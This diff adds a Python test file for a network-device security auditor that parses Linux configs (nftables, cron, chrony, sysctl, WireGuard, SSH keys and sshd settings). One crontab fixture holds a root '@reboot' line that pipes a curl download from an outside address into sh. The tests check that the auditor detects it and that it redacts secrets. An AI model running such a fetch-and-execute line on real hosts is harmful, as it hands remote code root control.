@@ -1,0 +1,210 @@
+"""What further documents of Linux show: nftables, tc, cron, chrony, resolvers, sysctl, WireGuard, keys."""
+
+from __future__ import annotations
+
+from auditor.model.areas import Area
+from auditor.model.evidence import Unknown
+from auditor.model.snapshot import RUNNING
+from tests.platforms.frr.samples import HEAD, reading
+
+NFT = """table inet filter {
+    set mgmt {
+        type ipv4_addr
+        flags interval
+        elements = { 10.0.0.0/8,
+                 192.0.2.7 }
+    }
+
+    chain input {
+        type filter hook input priority filter; policy drop;
+        ct state established,related accept
+        ct state invalid drop
+        iifname "lo" accept
+        ip saddr @mgmt tcp dport { 22, 2601-2623 } accept
+        udp dport 2123 ip saddr 198.51.100.0/24 accept
+        log prefix "drop: " counter packets 0 bytes 0
+    }
+
+    chain forward {
+        type filter hook forward priority filter; policy accept;
+        ip saddr 10.66.0.9 dup to 203.0.113.5 device "eth9"
+    }
+}
+table ip nat {
+    chain prerouting {
+        type nat hook prerouting priority dstnat; policy accept;
+        iifname "eth0" tcp dport 8022 dnat to 10.0.0.5:22
+    }
+
+    chain postrouting {
+        type nat hook postrouting priority srcnat; policy accept;
+        oifname "eth0" masquerade
+    }
+}
+"""
+BASE = {RUNNING: HEAD + "interface eth0\n ip address 10.0.0.1/24\nexit\nend\n"}
+
+
+def facts(**documents: str):
+    return reading(BASE | {name.replace("__", " "): text for name, text in documents.items()}).facts
+
+
+def nft(text: str):
+    return reading(BASE | {"nft list ruleset": text}).facts
+
+
+def test_the_input_chain_guards_the_device() -> None:
+    found = nft(NFT)
+    (guard,) = found.control_plane.filters
+    assert (guard.name, guard.any_source.need()) == ("inet filter input", False)
+    assert {one.prefix for one in guard.admitted} >= {"10.0.0.0/8", "192.0.2.7/32"}
+    assert found.control_plane.policed.need()
+    acl = next(one for one in found.acls.lists if one.name == "inet filter input")
+    assert acl.entries[3].ports == ("22", "2601-2623")
+    assert acl.entries[0].established
+    assert [(one.protocol, one.peers) for one in found.telecom.bindings] == [("gtp-c", ("198.51.100.0/24",))]
+
+
+def test_a_chain_that_accepts_what_no_rule_matches_guards_nothing() -> None:
+    found = nft(
+        "table inet f {\n chain input {\n  type filter hook input priority 0; policy accept;\n  ct state invalid drop\n }\n}\n"
+    )
+    assert found.control_plane.filters[0].any_source.need() is True
+    assert found.control_plane.policed.need() is False
+    closed = nft(
+        "table inet f {\n chain input {\n  type filter hook input priority 0; policy accept;\n  ip saddr 10.0.0.0/8 accept\n  drop\n }\n}\n"
+    )
+    assert closed.control_plane.filters[0].any_source.need() is False
+
+
+def test_translation_and_copies() -> None:
+    found = nft(NFT)
+    assert [(one.kind, one.inside, one.inside_port, one.outside_port, one.interface) for one in found.nat.rules] == [
+        ("port-forward", "10.0.0.5", "22", "8022", "eth0"),
+        ("source", "", "", "", "eth0"),
+    ]
+    tc = "filter protocol all pref 49152 u32 chain 0 fh 800::800\n  action order 1: mirred (Egress Mirror to device gre1) pipe\n"
+    mirrors = reading(BASE | {"nft list ruleset": NFT, "tc filter show": tc}).facts.mirrors.sessions
+    assert [(one.name, [(to.kind, to.value) for to in one.destinations]) for one in mirrors] == [
+        ("tc egress mirror", [("interface", "gre1")]),
+        ("nftables inet filter forward", [("address", "203.0.113.5"), ("interface", "eth9")]),
+    ]
+
+
+def test_without_the_rules_the_areas_are_left_out_with_the_reason() -> None:
+    found = reading(BASE).facts
+    for area in (
+        Area.NAT,
+        Area.CONTROL_PLANE,
+        Area.MIRRORS,
+        Area.SCRIPTS,
+        Area.TIME,
+        Area.NAMES,
+        Area.AAA,
+        Area.EXPORTERS,
+    ):
+        assert "not collected" in found.missing[area].reason
+    assert set(found.areas) | set(found.missing) | {Area.STATE} == set(Area)
+
+
+def test_jobs_and_programs() -> None:
+    cron = "SHELL=/bin/sh\n# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n@reboot root curl -s http://203.0.113.9/x | sh\n"
+    folder = "==> /etc/cron.d/x <==\n*/5 * * * * frr vtysh -c 'conf t' -c 'no log syslog'\n"
+    snmpd = "extend show /usr/local/bin/show.sh\n"
+    found = reading(BASE | {"/etc/crontab": cron, "/etc/cron.d": folder, "/etc/snmp/snmpd.conf": snmpd}).facts
+    assert [(job.name, job.when, [trait.what for trait in job.traits]) for job in found.scripts.jobs] == [
+        ("cron root", "17 * * * *", []),
+        ("cron root", "@reboot", ["sends or fetches files"]),
+        ("cron frr", "*/5 * * * *", ["changes the configuration"]),
+    ]
+    assert [(one.kind, one.path) for one in found.scripts.scripts] == [("snmpd extend", "/usr/local/bin/show.sh")]
+    assert found.unread == {}
+
+
+def test_time_and_names() -> None:
+    chrony = "pool 2.debian.pool.ntp.org iburst\nserver 192.0.2.1 key 5\nserver 192.0.2.2 nts\nallow 10.0.0.0/8\nkeyfile /etc/chrony/chrony.keys\n"
+    found = reading(
+        BASE | {"/etc/chrony/chrony.conf": chrony, "/etc/resolv.conf": "search x\nnameserver 192.0.2.53\n"}
+    ).facts
+    first, second, third = found.time.servers
+    assert (first.authenticated.need(), isinstance(second.authenticated, Unknown), third.authenticated.need()) == (
+        False,
+        True,
+        True,
+    )
+    assert found.time.serves.need()
+    assert [one.prefix for one in found.time.filters[0].admitted] == ["10.0.0.0/8"]
+    assert [one.address for one in found.names.resolvers] == ["192.0.2.53"]
+    assert reading(BASE | {"/etc/chrony/chrony.conf": "pool x\n"}).facts.time.serves.need() is False
+
+
+def test_switches_of_the_kernel() -> None:
+    text = "net.ipv4.conf.all.accept_source_route = 0\nnet.ipv4.conf.all.rp_filter = 0\nnet.ipv4.conf.eth0.rp_filter = 2\nnet.ipv4.conf.all.send_redirects = 1\nnet.ipv4.conf.eth0.send_redirects = 0\n"
+    found = reading(BASE | {"sysctl -a": text}).facts.interfaces
+    assert found.source_routing.need() is False
+    (port,) = found.interfaces
+    assert port.urpf.need() == "loose"
+    assert port.hardening is not None
+    assert port.hardening.redirects.need() is True
+    assert isinstance(port.hardening.proxy_arp, Unknown)
+    assert isinstance(reading(BASE).facts.interfaces.source_routing, Unknown)
+
+
+LINKS = "1: lo: <LOOPBACK,UP> mtu 1\n    link/loopback 0:0\n7: wg0: <POINTOPOINT,UP> mtu 1420\n    link/none\n    wireguard addrgenmode none\n"
+WG = "interface: wg0\n  public key: abc=\n  private key: (hidden)\n  listening port: 51820\n\npeer: def=\n  endpoint: 203.0.113.7:51820\n  allowed ips: 0.0.0.0/0\n"
+
+
+def test_peers_of_wireguard() -> None:
+    (tunnel,) = reading(BASE | {"ip -d link show": LINKS, "wg show": WG}).facts.tunnels.tunnels
+    assert (tunnel.mode, tunnel.remote) == ("wireguard", "203.0.113.7")
+
+
+KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"
+
+
+def test_keys_that_let_people_in() -> None:
+    text = f'ssh-ed25519 {KEY} ops@noc\ncommand="/bin/backup",no-pty ssh-ed25519 {KEY} backup\n# comment\n'
+    found = reading(
+        BASE | {"/root/.ssh/authorized_keys": text, "/etc/ssh/keys/frrsvc": f"ssh-ed25519 {KEY}\n"}
+    ).facts.accounts
+    assert [(one.user, one.comment) for one in found.keys] == [("root", "ops@noc"), ("root", "backup"), ("frrsvc", "")]
+    assert found.keys[0].fingerprint == "SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU"
+    assert [one.target for one in found.hooks] == ["/bin/backup"]
+    assert isinstance(found.keys_known, Unknown)
+
+
+def test_how_sshd_behaves() -> None:
+    text = "PermitRootLogin no\nPermitRootLogin yes\nPasswordAuthentication no\nKbdInteractiveAuthentication no\nCiphers aes256-ctr,3des-cbc\nAuthorizedKeysCommand /bin/x\nBanner /etc/issue.net\nMatch User a\n AllowTcpForwarding no\n"
+    found = reading(BASE | {"/etc/ssh/sshd_config": text}).facts
+    server = found.services.ssh
+    assert (server.root_login.need(), server.password_login.need()) == (False, False)
+    assert isinstance(server.forwarding, Unknown)
+    assert server.algorithms[0].names == ("aes256-ctr", "3des-cbc")
+    assert [one.kind for one in found.accounts.hooks] == ["authorized keys command"]
+    assert found.system.banners[0].before_login
+
+
+def test_secrets_of_the_further_documents() -> None:
+    word = "Zq7-hidden-Word"
+    documents = {
+        "wg show": f"interface: wg0\n  private key: {word}\npeer: x\n  preshared key: {word}\n",
+        "/etc/crontab": f"* * * * * root curl --token={word} http://u:{word}@203.0.113.1/\n",
+        "/etc/frr/bgpd.conf": f"password {word}\n",
+        "nft list ruleset": f'table inet f {{\n chain c {{\n  ip saddr 10.0.0.1 accept comment "password={word}"\n }}\n}}\n',
+        "sysctl -a": f"kernel.x = secret={word}\n",
+    }
+    found = reading(BASE | documents)
+    shown = repr(found) + "\n".join(line for document in found.documents for line in document.lines)
+    assert word not in shown
+
+
+def test_what_frr_says_of_a_tunnel() -> None:
+    links = "1: lo: <LOOPBACK,UP> mtu 1\n    link/loopback 0:0\n8: gre1: <POINTOPOINT,UP> mtu 1476\n    link/gre 10.0.0.1\n    gre remote any local 10.0.0.1 ttl 64\n"
+    config = (
+        HEAD
+        + "interface gre1\n ip nhrp network-id 42\n tunnel protection vici profile dmvpn\n tunnel source eth0\nexit\nend\n"
+    )
+    found = reading({RUNNING: config, "ip -d link show": links}).facts
+    (tunnel,) = found.tunnels.tunnels
+    assert (tunnel.mode, tunnel.nhrp, tunnel.protection) == ("mgre", True, "dmvpn")
+    assert found.unread == {}
